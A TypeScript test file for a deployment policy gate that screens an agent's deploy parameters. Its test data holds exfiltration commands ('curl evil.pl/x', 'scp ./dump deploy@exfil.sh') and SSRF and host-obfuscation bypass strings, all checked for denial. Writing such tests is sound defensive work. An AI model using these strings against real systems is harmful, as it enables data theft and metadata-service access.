/**
 * Issue 9, kind 5: gate parameters that dodge a rule. Every input the issue lists, and variants,
 * must be denied (or bounded) through the engine, the registry client, the GitHub client and the
 * committed dist/gate/main bundle run the way the Actions runner runs it.
 *
 * - hosts: with allowed_hosts ["*.acme.internal"], every host form in params is denied and the
 *   reason names the param, the token, how it was read and how to allow it;
 * - numbers: NaN and ±Infinity anywhere in params (YAML .nan/.inf) and in replicas are
 *   INPUT_INVALID naming the value; NaN computed by CEL is an EXPRESSION_ERROR;
 * - expression cost: hostile CEL over ~80 KB of params stops with EXPRESSION_COST;
 * - bodies: manifests, token answers and GitHub API answers are capped while they stream, against
 *   raw local servers (endless bodies, lying Content-Length) and Debian's docker-registry.
 */
import { createHash } from 'node:crypto';
import { mkdtempSync } from 'node:fs';
import { createServer as createHttpServer, request as httpRequest, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { createServer, type Server as NetServer, type Socket } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parseYaml } from '../../packages/core/index.js';
import { decide } from '../../packages/gate/decide.js';
import { runGate } from '../../packages/gate/gate.js';
import { GitHubClient } from '../../packages/gate/github.js';
import { loadFrom, policyDir, request } from '../../packages/gate/test-helpers.js';
import type { Decision, GateRequest } from '../../packages/gate/types.js';
import { MAX_MANIFEST_BYTES, type ResolveOptions, resolveImage } from '../../packages/oci/index.js';
import { registryAvailable, startRegistry, type TestRegistry } from '../support/registry.js';
import { runStep, type StepResult } from '../support/runner.js';

const HOSTS_POLICY =
  'agent: deploy-manager\nactions:\n  - name: deploy\n    allowed_hosts: ["*.acme.internal"]\n';
const hostsPolicy = loadFrom({ 'deploy.yaml': HOSTS_POLICY });
const codes = (d: Decision) => d.reasons.map((r) => r.code);
const decideParams = (params: Record<string, unknown>, over: Partial<GateRequest> = {}) =>
  decide(request({ params, ...over }), hostsPolicy);

describe('kind 5: every host form is recognised (allowed_hosts ["*.acme.internal"])', () => {
  // The inputs first, then variants.
  it.each([
    ['db.attacker.pl', 'db.attacker.pl'],
    ['exfil.sh', 'exfil.sh'],
    ['curl evil.pl/x', 'evil.pl'],
    ['localhost', 'localhost'],
    ['metadata', 'metadata'],
    ['127.1', '127.0.0.1'],
    ['2130706433', '127.0.0.1'],
    ['0x7f000001', '127.0.0.1'],
    ['::ffff:127.0.0.1', '::ffff:7f00:1'],
    // variants
    ['run.zip', 'run.zip'],
    ['scp ./dump deploy@exfil.sh:/tmp', 'exfil.sh'],
    ['git@evil.com:org/repo.git', 'evil.com'],
    ['http://169.254.169.254/latest/meta-data/', '169.254.169.254'],
    ['http://0xa9.0xfe.0xa9.0xfe/', '169.254.169.254'],
    ['http://[::ffff:a9fe:a9fe]/', '::ffff:a9fe:a9fe'],
    ['[::1]:6379', '::1'],
    ['fd00::1', 'fd00::1'],
    ['0177.0.0.01', '127.0.0.1'],
    ['https:\\\\evil.com', 'evil.com'],
    ['https:evil.com', 'evil.com'],
    ['//evil.com/x', 'evil.com'],
    ['\\\\evil.com\\share', 'evil.com'],
    ['https://db.acme.internal\\@evil.com/', 'evil.com'],
    ['https://db.acme.internal@evil.com/', 'evil.com'],
    ['https://evil.com#@db.acme.internal', 'evil.com'],
    ['https://db.acme.internal/login?next=https%3A%2F%2Fevil.com', 'evil.com'],
    ['https://db.acme.internal//evil.com', 'evil.com'],
    ['http://%65vil.com/', 'evil.com'],
    ['https://ＥＶＩＬ。ｃｏｍ/', 'evil.com'],
    ['db.acme.internal.evil.com', 'db.acme.internal.evil.com'],
    ['acme.internal', 'acme.internal'],
    ['a.b.acme.internal', 'a.b.acme.internal'],
    ['db.аcme.internal', 'db.xn--cme-5cd.internal'],
    ['LOCALHOST:8080', 'localhost'],
    ['redis://:secret@cache:6379', 'cache'],
    ['vault', 'vault'],
    ['kubernetes.default.svc', 'kubernetes.default.svc'],
    ['--url=evil.com', 'evil.com'],
    ['metadata/computeMetadata/v1/', 'metadata'],
  ])('%s is denied, naming %s', (value, host) => {
    const d = decideParams({ target_notes: value });
    expect(d.decision).toBe('deny');
    expect(codes(d)).toContain('HOST_NOT_ALLOWED');
    const reason = d.reasons.find((r) => r.message.includes(`host '${host}'`));
    expect(reason, JSON.stringify(d.reasons)).toBeDefined();
    expect(reason!.rule).toMatch(/deploy\.yaml:4 allowed_hosts$/);
    expect(reason!.message).toContain('params.target_notes');
    expect(reason!.message).toContain(`add "${host}" to allowed_hosts`);
  });

  it('numbers count as hosts under destination keys, in lists and nested', () => {
    for (const params of [
      { ip: 2130706433 },
      { endpoints: [{ host: 2130706433 }] },
      { webhookUrl: 127.1 },
      { upstream_hosts: ['db.acme.internal', 2130706433] },
    ]) {
      const d = decideParams(params);
      expect(codes(d), JSON.stringify(params)).toEqual(['HOST_NOT_ALLOWED']);
      expect(d.reasons[0]!.message).toContain("'127.0.0.1'");
    }
  });

  it('object keys are text the agent controls too', () => {
    expect(codes(decideParams({ 'https://evil.com/hook': true }))).toEqual(['HOST_NOT_ALLOWED']);
  });

  it('allowed forms still pass, and counts, versions and ./paths in text are not hosts', () => {
    const d = decideParams({
      db: 'postgres://deploy:pw@db.acme.internal:5432/app',
      ssh: 'deploy@web.acme.internal',
      hook: 'https://HOOKS.acme.internal./x?y=1',
      api: 'api.acme.internal:8443',
      replicas_hint: 3,
      amount: 2130706433,
      notes: 'rolling update at 12:30, 3 pods, see ./runbook.md and v1.4.2',
    });
    expect(d.reasons).toEqual([]);
    expect(d.decision).toBe('allow');
  });

  it('a single word given as a whole value is a host; text_params makes it text, and says so', () => {
    const d = decideParams({ ticket: 'CHG-1234' });
    expect(codes(d)).toEqual(['HOST_NOT_ALLOWED']);
    expect(d.reasons[0]!.message).toContain('list "ticket" under text_params');
    const withText = loadFrom({
      'deploy.yaml': `${HOSTS_POLICY}    text_params: [ticket, release.version]\n`,
    });
    const ok = decide(request({ params: { ticket: 'CHG-1234', release: { version: '1.4.2' } } }), withText);
    expect(ok.decision).toBe('allow');
    // Host shapes still count in text params.
    for (const v of ['see https://evil.com', 'exfil.sh', 'u@evil.com', '10.0.0.1', 'localhost']) {
      expect(codes(decide(request({ params: { ticket: v } }), withText)), v).toEqual(['HOST_NOT_ALLOWED']);
    }
  });

  it('text_params without allowed_hosts, or naming all params, is a policy error', () => {
    expect(() =>
      loadFrom({ 'p.yaml': 'agent: a\nactions:\n  - name: deploy\n    text_params: [x]\n' }),
    ).toThrow(/text_params only changes how allowed_hosts/);
    expect(() => loadFrom({ 'p.yaml': `${HOSTS_POLICY}    text_params: [params]\n` })).toThrow(
      /switch allowed_hosts off/,
    );
    expect(() => loadFrom({ 'p.yaml': `${HOSTS_POLICY}    text_params: ["a b"]\n` })).toThrow(
      /not a param name/,
    );
  });
});

describe('kind 5: NaN and Infinity are invalid input', () => {
  const amountPolicy = loadFrom({
    'deploy.yaml':
      'agent: deploy-manager\nactions:\n  - name: deploy\n    deny_when: params.amount > 1000\n    max_replicas: 10\n    approval_needed: replicas != null && replicas > 5\n',
  });
  const fromYaml = (text: string) => parseYaml(text, "input 'params'")[0]!.value as Record<string, unknown>;

  it.each([
    ['amount: .nan', 'params.amount'],
    ['amount: .NaN', 'params.amount'],
    ['amount: .inf', 'params.amount'],
    ['amount: -.inf', 'params.amount'],
    ['amount: 5\nlimits: [1, .nan]', 'params.limits[1]'],
    ['amount: 5\nnested: { deeper: { x: .Inf } }', 'params.nested.deeper.x'],
  ])('%s denies with INPUT_INVALID naming %s', (text, rule) => {
    const d = decide(request({ params: fromYaml(text) }), amountPolicy);
    expect(d.decision).toBe('deny');
    expect(codes(d)).toEqual(['INPUT_INVALID']);
    expect(d.reasons[0]!.rule).toBe(rule);
    expect(d.reasons[0]!.message).toMatch(/NaN|Infinity/);
  });

  it.each([Number.NaN, Number.POSITIVE_INFINITY, -1, 2.5])(
    'replicas %s denies with INPUT_INVALID',
    (replicas) => {
      const d = decide(request({ replicas }), amountPolicy);
      expect(d.decision).toBe('deny');
      expect(d.reasons).toEqual([expect.objectContaining({ code: 'INPUT_INVALID', rule: 'replicas' })]);
    },
  );

  it('NaN computed by an expression is an EXPRESSION_ERROR deny, not a false comparison', () => {
    const p = loadFrom({
      'deploy.yaml':
        'agent: deploy-manager\nactions:\n  - name: deploy\n    deny_when: params.total / params.count > 100.0\n',
    });
    for (const params of [
      { total: 0.5, count: 0.0 },
      { total: -0.5, count: 0.0 },
      { total: 1e308, count: 1e-308 },
    ]) {
      const d = decide(request({ params }), p);
      expect(d.decision, JSON.stringify(params)).toBe('deny');
      expect(codes(d)).toEqual(['EXPRESSION_ERROR']);
    }
    expect(decide(request({ params: { total: 50.5, count: 2.5 } }), p).decision).toBe('allow');
  });
});

describe('kind 5: expression cost is bounded', () => {
  const list = Array.from({ length: 9000 }, (_, i) => String(i % 10).repeat(7)); // ~88 KB of params
  const policyWith = (expr: string) =>
    loadFrom({
      'deploy.yaml': `agent: deploy-manager\nactions:\n  - name: deploy\n    deny_when: ${JSON.stringify(expr)}\n`,
    });

  it.each([
    'params.l.map(a, params.l.map(b, a + b)).size() > 0',
    'params.l.exists(a, params.l.exists(b, a == b + "x"))',
    'params.l.all(a, a in params.l)',
    '!params.l.all(a, params.l.all(b, a != b + "x"))',
    'params.l.map(a, params.l).size() > 0 || true',
  ])('%s over ~88 KB of params denies with EXPRESSION_COST', (expr) => {
    expect(JSON.stringify({ l: list }).length).toBeGreaterThan(88_000);
    const d = decide(request({ params: { l: list } }), policyWith(expr));
    expect(d.decision).toBe('deny');
    expect(codes(d)).toEqual(['EXPRESSION_COST']);
    expect(d.reasons[0]!.rule).toMatch(/deploy\.yaml:4 deny_when$/);
  });

  it('the same expressions on normal params are evaluated as usual', () => {
    const d = decide(
      request({ params: { l: ['a', 'b', 'c'] } }),
      policyWith('params.l.map(a, params.l.map(b, a + b)).size() > 5'),
    );
    expect(d.decision).toBe('allow');
  });

  it('one budget per decision: two hostile rules do not double the time', () => {
    const p = loadFrom({
      'deploy.yaml': `agent: deploy-manager\nactions:\n  - name: deploy\n    deny_when: "params.l.all(a, a in params.l)"\n    approval_needed: "params.l.all(a, a in params.l)"\n`,
    });
    const d = decide(request({ params: { l: list } }), p);
    expect(codes(d)).toEqual(['EXPRESSION_COST', 'EXPRESSION_COST']);
  });
});

/** A raw HTTP/1.1 server, so that bodies can be endless or lie in Content-Length. */
interface RawServer {
  url: string;
  host: string;
  /** Body bytes written per connection, once it closed. */
  sent: number[];
  close(): Promise<void>;
}

type RawHandler = (req: { method: string; path: string; headers: string }, socket: Socket) => void;

async function rawServer(handler: RawHandler): Promise<RawServer> {
  const sent: number[] = [];
  const sockets = new Set<Socket>();
  const server: NetServer = createServer((socket) => {
    sockets.add(socket);
    socket.on('close', () => sockets.delete(socket));
    socket.on('error', () => {});
    let head = '';
    const onData = (chunk: Buffer) => {
      head += chunk.toString('latin1');
      const end = head.indexOf('\r\n\r\n');
      if (end < 0) return;
      socket.off('data', onData);
      const [line = '', ...rest] = head.slice(0, end).split('\r\n');
      const [method = '', path = ''] = line.split(' ');
      handler({ method, path, headers: rest.join('\n').toLowerCase() }, socket);
    };
    socket.on('data', onData);
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  const port = (server.address() as AddressInfo).port;
  return {
    url: `http://127.0.0.1:${port}`,
    host: `127.0.0.1:${port}`,
    sent,
    close: () =>
      new Promise<void>((r) => {
        for (const s of sockets) s.destroy();
        server.close(() => r());
      }),
  };
}

/** Writes `prefix` then endless filler until the client goes away; records the bytes sent. */
function streamEndless(socket: Socket, sent: number[], head: string, prefix = ''): void {
  let bytes = 0;
  const chunk = Buffer.alloc(64 * 1024, 0x20);
  socket.write(head);
  if (prefix) {
    socket.write(prefix);
    bytes += prefix.length;
  }
  const pump = () => {
    while (!socket.destroyed) {
      bytes += chunk.length;
      if (!socket.write(chunk)) {
        socket.once('drain', pump);
        return;
      }
    }
  };
  socket.on('close', () => sent.push(bytes));
  pump();
}

const MAX_SENT = 64 * 1024 * 1024; // socket buffers hold a few MiB beyond the cap; never 1 GiB
const tmp = mkdtempSync(join(tmpdir(), 'astl-security-gate-'));
const noConfig: ResolveOptions = {
  dockerConfigPath: join(tmp, 'absent.json'),
  env: {},
  attempts: 1,
  deadlineMs: 20_000,
};

describe('kind 5: response bodies are capped while streaming', () => {
  let registry: RawServer;
  let mode: 'endless' | 'huge-length' | 'short-length' | 'endless-token' = 'endless';

  beforeAll(async () => {
    registry = await rawServer((req, socket) => {
      if (req.path.startsWith('/token')) {
        streamEndless(
          socket,
          registry.sent,
          'HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nConnection: close\r\n\r\n',
          '{"token":"',
        );
        return;
      }
      if (mode === 'endless-token' && !req.headers.includes('authorization: bearer')) {
        socket.end(
          `HTTP/1.1 401 Unauthorized\r\nWWW-Authenticate: Bearer realm="${registry.url}/token",service="x"\r\nContent-Length: 0\r\nConnection: close\r\n\r\n`,
        );
        return;
      }
      // HEAD without Docker-Content-Digest: the client must GET and hash the bytes.
      if (req.method === 'HEAD') {
        socket.end(
          'HTTP/1.1 200 OK\r\nContent-Type: application/vnd.oci.image.manifest.v1+json\r\nContent-Length: 0\r\nConnection: close\r\n\r\n',
        );
        return;
      }
      const type = 'Content-Type: application/vnd.oci.image.manifest.v1+json\r\n';
      if (mode === 'huge-length') {
        streamEndless(
          socket,
          registry.sent,
          `HTTP/1.1 200 OK\r\n${type}Content-Length: 1073741824\r\nConnection: close\r\n\r\n`,
        );
      } else if (mode === 'short-length') {
        // Says 40 bytes, then keeps sending: the client must read 40 and no more.
        streamEndless(
          socket,
          registry.sent,
          `HTTP/1.1 200 OK\r\n${type}Content-Length: 40\r\nConnection: close\r\n\r\n`,
          '{"schemaVersion": 2, "mediaType": "x", ',
        );
      } else {
        streamEndless(
          socket,
          registry.sent,
          `HTTP/1.1 200 OK\r\n${type}Connection: close\r\n\r\n`,
          '{"schemaVersion": 2, "layers": [',
        );
      }
    });
  });
  afterAll(() => registry.close());

  it('an endless manifest (no Content-Length) stops at 4 MiB: MANIFEST_TOO_LARGE', async () => {
    mode = 'endless';
    registry.sent.length = 0;
    const r = await resolveImage(`${registry.host}/acme/app:1`, noConfig);
    expect(r.digest).toBeUndefined();
    expect(r.error?.code).toBe('MANIFEST_TOO_LARGE');
    expect(r.error?.message).toContain('4 MiB');
    await new Promise((done) => setTimeout(done, 200));
    expect(Math.max(...registry.sent)).toBeLessThan(MAX_SENT);
    expect(Math.max(...registry.sent)).toBeGreaterThan(MAX_MANIFEST_BYTES);
  });

  it('a Content-Length of 1 GiB is refused before reading the body', async () => {
    mode = 'huge-length';
    registry.sent.length = 0;
    const r = await resolveImage(`${registry.host}/acme/app:1`, noConfig);
    expect(r.error?.code).toBe('MANIFEST_TOO_LARGE');
    await new Promise((done) => setTimeout(done, 200));
    expect(Math.max(...registry.sent)).toBeLessThan(MAX_SENT);
  });

  it('a Content-Length smaller than the body sent: only the announced bytes are read, and they are no manifest', async () => {
    mode = 'short-length';
    const r = await resolveImage(`${registry.host}/acme/app:1`, noConfig);
    expect(r.digest).toBeUndefined();
    expect(r.error?.code).toBe('REGISTRY_UNREACHABLE');
    expect(r.error?.message).toContain('not an image manifest');
  });

  it('an endless token answer stops at 1 MiB', async () => {
    mode = 'endless-token';
    registry.sent.length = 0;
    const r = await resolveImage(`${registry.host}/acme/app:1`, noConfig);
    expect(r.error?.code).toBe('REGISTRY_UNREACHABLE');
    expect(r.error?.message).toContain('more than 1 MiB');
    await new Promise((done) => setTimeout(done, 200));
    expect(Math.max(...registry.sent)).toBeLessThan(MAX_SENT);
  });

  it('an endless GitHub API answer stops at 8 MiB and fails closed (APPROVAL_CHECK_FAILED)', async () => {
    const sent: number[] = [];
    const api = await rawServer((_req, socket) =>
      streamEndless(
        socket,
        sent,
        'HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nConnection: close\r\n\r\n',
        '[{"state":"approved","user":{"login":"',
      ),
    );
    try {
      const client = new GitHubClient({ token: 't', baseUrl: api.url, attempts: 1, deadlineMs: 20_000 });
      const err = await client
        .findApproval({ owner: 'o', repo: 'r', runId: 1, environment: 'production', agentLogins: [] })
        .catch((e: unknown) => e);
      expect(err).toMatchObject({ code: 'APPROVAL_CHECK_FAILED', message: expect.stringContaining('8 MiB') });
      const counted = await client
        .countRecentDeploys({ owner: 'o', repo: 'r', agent: 'a', since: new Date(0) })
        .catch((e: unknown) => e);
      expect(counted).toMatchObject({ code: 'BUDGET_CHECK_FAILED' });
      await new Promise((done) => setTimeout(done, 200));
      expect(Math.max(...sent)).toBeLessThan(MAX_SENT);
    } finally {
      await api.close();
    }
  });

  it('the gate denies an image whose manifest is too large', async () => {
    mode = 'endless';
    const policyPath = policyDir({ 'deploy.yaml': 'agent: deploy-manager\nactions:\n  - name: deploy\n' });
    const result = await runGate({
      policyPath,
      workspace: { root: policyPath },
      agent: 'deploy-manager',
      action: 'deploy',
      environment: 'staging',
      images: [`${registry.host}/acme/app:1`],
      params: {},
      mode: 'enforce',
      ci: { provider: 'local' },
      resolve: noConfig,
    });
    expect(result.decision.decision).toBe('deny');
    expect(result.record.reasons.map((r) => r.code)).toEqual(['MANIFEST_TOO_LARGE']);
  });
});

const hasRegistry = registryAvailable();

describe.skipIf(!hasRegistry)("kind 5: bodies from Debian's docker-registry", () => {
  let real: TestRegistry;
  let proxy: Server;
  let proxyHost: string;
  let proxyMode: 'strip-digest' | 'endless-tail' = 'strip-digest';

  beforeAll(async () => {
    real = await startRegistry();
    // A proxy in front of the real registry: drops Docker-Content-Digest (so the client GETs and
    // hashes the real manifest through the capped reader), or appends an endless tail to it.
    proxy = createHttpServer((req, res) => {
      const upstream = httpRequest(
        `${real.url}${req.url}`,
        { method: req.method, headers: { ...req.headers, host: real.host } },
        (up) => {
          const headers = { ...up.headers };
          delete headers['docker-content-digest'];
          if (proxyMode === 'endless-tail' && req.method === 'GET') delete headers['content-length'];
          res.writeHead(up.statusCode ?? 502, headers);
          if (proxyMode === 'strip-digest' || req.method !== 'GET') {
            up.pipe(res);
            return;
          }
          up.on('data', (c: Buffer) => res.write(c));
          up.on('end', () => {
            const filler = Buffer.alloc(64 * 1024, 0x20);
            const pump = () => {
              while (!res.destroyed && res.write(filler)) {}
              if (!res.destroyed) res.once('drain', pump);
            };
            pump();
          });
        },
      );
      req.pipe(upstream);
    });
    await new Promise<void>((r) => proxy.listen(0, '127.0.0.1', r));
    proxyHost = `127.0.0.1:${(proxy.address() as AddressInfo).port}`;
  });
  afterAll(async () => {
    proxy?.closeAllConnections();
    await new Promise<void>((r) => (proxy ? proxy.close(() => r()) : r()));
    await real?.close();
  });

  it('a real manifest read through the capped GET hashes to the digest the registry stored', async () => {
    proxyMode = 'strip-digest';
    const pushed = await real.pushImage('acme/app', 'v1');
    const r = await resolveImage(`${proxyHost}/acme/app:v1`, noConfig);
    expect(r.error).toBeUndefined();
    expect(r.digest).toBe(pushed.digest);
    expect(r.digest).toBe(`sha256:${createHash('sha256').update(pushed.bytes).digest('hex')}`);
  });

  it('the real manifest followed by an endless tail is cut off: MANIFEST_TOO_LARGE', async () => {
    proxyMode = 'endless-tail';
    await real.pushImage('acme/tail', 'v1');
    const r = await resolveImage(`${proxyHost}/acme/tail:v1`, noConfig);
    expect(r.error?.code).toBe('MANIFEST_TOO_LARGE');
  });
});

describe('kind 5 end to end: dist/gate/main as the runner runs it', () => {
  const BUNDLE = 'dist/gate/main/index.js';
  const gateStep = (policy: string, inputs: Record<string, string>): Promise<StepResult> =>
    runStep(BUNDLE, {
      cwd: policyDir({ 'policies/deploy.yaml': policy }),
      inputs: { agent: 'deploy-manager', environment: 'staging', 'github-token': '', ...inputs },
    });
  const reasons = (r: StepResult) =>
    JSON.parse(r.outputs.reasons ?? '[]') as { code: string; rule: string; message: string }[];

  it('hosts: the issue inputs in params are denied, each named, and the step fails', async () => {
    const r = await gateStep(HOSTS_POLICY, {
      params: [
        'pl: db.attacker.pl',
        'sh: exfil.sh',
        'cmd: curl evil.pl/x',
        'lo: localhost',
        'md: metadata',
        'short: "127.1"',
        'int: "2130706433"',
        'hex: "0x7f000001"',
        'v6: "::ffff:127.0.0.1"',
        'ok: https://db.acme.internal/x',
      ].join('\n'),
    });
    expect(r.exitCode).toBe(1);
    expect(r.outputs.decision).toBe('deny');
    const found = reasons(r);
    expect(new Set(found.map((x) => x.code))).toEqual(new Set(['HOST_NOT_ALLOWED']));
    for (const host of [
      'db.attacker.pl',
      'exfil.sh',
      'evil.pl',
      'localhost',
      'metadata',
      '127.0.0.1',
      '::ffff:7f00:1',
    ]) {
      expect(
        found.some((x) => x.message.includes(`host '${host}'`)),
        host,
      ).toBe(true);
    }
    expect(found.some((x) => x.message.includes('db.acme.internal'))).toBe(false);
    const annotation = r.commands.find(
      (c) => c.command === 'error' && c.properties.title === 'HOST_NOT_ALLOWED',
    );
    expect(annotation?.properties).toMatchObject({ file: 'policies/deploy.yaml', line: '4' });
  });

  it('NaN: amount: .nan against deny_when: params.amount > 1000 is INPUT_INVALID naming params.amount', async () => {
    const policy = 'agent: deploy-manager\nactions:\n  - name: deploy\n    deny_when: params.amount > 1000\n';
    for (const amount of ['.nan', '.inf', '-.inf']) {
      const r = await gateStep(policy, { params: `amount: ${amount}` });
      expect(r.exitCode, r.stdout).toBe(1);
      expect(r.outputs.decision).toBe('deny');
      expect(reasons(r)).toEqual([expect.objectContaining({ code: 'INPUT_INVALID', rule: 'params.amount' })]);
    }
    const ok = await gateStep(policy, { params: 'amount: 250' });
    expect(ok.outputs.decision).toBe('allow');
  });

  it('expression cost: a nested map over ~88 KB of params denies with EXPRESSION_COST', async () => {
    const policy =
      'agent: deploy-manager\nactions:\n  - name: deploy\n    deny_when: "params.l.map(a, params.l.map(b, a + b)).size() > 0"\n';
    const l = Array.from({ length: 9000 }, (_, i) => String(i % 10).repeat(7));
    const r = await gateStep(policy, { params: JSON.stringify({ l }) });
    expect(r.exitCode).toBe(1);
    expect(reasons(r).map((x) => x.code)).toEqual(['EXPRESSION_COST']);
  });
});
